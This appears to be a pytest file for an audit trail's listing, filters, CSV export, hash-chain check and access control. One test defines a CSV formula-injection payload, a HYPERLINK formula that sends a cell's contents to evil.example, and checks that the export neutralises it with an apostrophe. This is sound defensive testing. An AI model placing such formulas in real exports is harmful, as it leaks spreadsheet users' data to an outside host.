@@ -1,0 +1,132 @@
+"""The audit trail pages: newest first with filters, the CSV export, and the chain check."""
+
+import csv
+import io
+import re
+
+import pytest
+
+from qa_app.services import accounts
+from tests.web.pages import messages, sign_in, text
+
+CSV_HEADER = (
+    "seq,occurred_at,username,action,entity_type,entity_key,old_values,new_values,reason,"
+    "client_address,prev_hash,hash"
+)
+
+
+@pytest.fixture
+def reviewer(client, users):
+    """The test client, signed in as rob (reviewer). The trail then holds five events:
+    user.created for tina, rob, ada and ivan (1 to 4), and rob's sign-in (5)."""
+    assert sign_in(client, "rob").status_code == 302
+    return client
+
+
+def event_rows(page: str) -> list[tuple[int, str, str, str]]:
+    """(seq, who, action, record) for each row of the audit table, top to bottom."""
+    cell = r"\s*<td>([^<]*)</td>"
+    rows = re.findall(r"<tr>\s*<td>(\d+)</td>\s*<td>[^<]*</td>" + cell * 3, page)
+    return [(int(seq), who, action, record) for seq, who, action, record in rows]
+
+
+def exported(client, query: str = "") -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text(client.get("/audit/export.csv" + query)))))
+
+
+def test_the_audit_page_lists_events_newest_first(reviewer):
+    assert event_rows(text(reviewer.get("/audit/"))) == [
+        (5, "rob", "auth.signed_in", "user rob"),
+        (4, "test", "user.created", "user ivan"),
+        (3, "test", "user.created", "user ada"),
+        (2, "test", "user.created", "user rob"),
+        (1, "test", "user.created", "user tina"),
+    ]
+
+
+def test_the_audit_page_filters_by_entity_and_key(reviewer):
+    page = text(reviewer.get("/audit/", query_string={"entity": "user", "key": "rob"}))
+    assert event_rows(page) == [
+        (5, "rob", "auth.signed_in", "user rob"),
+        (2, "test", "user.created", "user rob"),
+    ]
+
+
+def test_a_filter_that_matches_nothing_says_so(reviewer):
+    page = text(reviewer.get("/audit/", query_string={"entity": "batch", "key": "LDN-0001"}))
+    assert event_rows(page) == []
+    assert "No event matches these filters." in page
+
+
+def test_the_export_is_a_csv_download(reviewer):
+    response = reviewer.get("/audit/export.csv")
+    assert response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"] == "attachment; filename=audit-trail.csv"
+
+
+def test_the_export_starts_with_the_header_row(reviewer):
+    assert text(reviewer.get("/audit/export.csv")).splitlines()[0] == CSV_HEADER
+
+
+def test_the_export_has_one_row_per_event_oldest_first(reviewer):
+    rows = exported(reviewer)[1:]
+    assert [(row[0], row[3], row[5]) for row in rows] == [
+        ("1", "user.created", "tina"),
+        ("2", "user.created", "rob"),
+        ("3", "user.created", "ada"),
+        ("4", "user.created", "ivan"),
+        ("5", "auth.signed_in", "rob"),
+    ]
+
+
+def test_the_export_chains_each_row_to_the_one_before(reviewer):
+    rows = exported(reviewer)[1:]
+    assert rows[0][10] == "0" * 64
+    assert [row[10] for row in rows[1:]] == [row[11] for row in rows[:-1]]
+
+
+def test_the_export_follows_the_page_filters(reviewer):
+    rows = exported(reviewer, "?entity=user&key=tina")[1:]
+    assert [(row[0], row[3]) for row in rows] == [("1", "user.created")]
+
+
+FORMULA = 'HYPERLINK("https://evil.example/?leak="&A1,"Details")'
+
+
+@pytest.mark.parametrize(
+    "reason",
+    [
+        pytest.param("=" + FORMULA, id="equals"),
+        pytest.param("+" + FORMULA, id="plus"),
+        pytest.param("-" + FORMULA, id="minus"),
+        pytest.param("@" + FORMULA, id="at"),
+        pytest.param("\t=" + FORMULA, id="tab"),
+        pytest.param("\r=" + FORMULA, id="carriage return"),
+    ],
+)
+def test_a_formula_in_the_export_is_neutralised_with_an_apostrophe(app, reviewer, reason):
+    with app.app_context():
+        accounts.set_active(None, "tina", False, reason=reason, actor_name="test")
+    [row] = [row for row in exported(reviewer) if row[3] == "user.deactivated"]
+    assert row[8] == "'" + reason
+
+
+def test_the_chain_check_says_intact(reviewer):
+    response = reviewer.get("/audit/verify")
+    assert response.status_code == 200
+    assert messages(text(response)) == [
+        "Intact: all 5 events match their hashes and follow each other in order."
+    ]
+
+
+def test_an_unknown_query_parameter_does_not_break_the_audit_page(reviewer):
+    response = reviewer.get("/audit/", query_string={"_method": "DELETE"})
+    assert response.status_code in (200, 400)
+
+
+@pytest.mark.parametrize("path", ["/audit/", "/audit/export.csv", "/audit/verify"])
+def test_a_technician_is_refused_the_audit_trail(client, users, path):
+    sign_in(client, "tina")
+    response = client.get(path)
+    assert response.status_code == 403
+    assert "This page needs the role reviewer or admin or inspector." in messages(text(response))
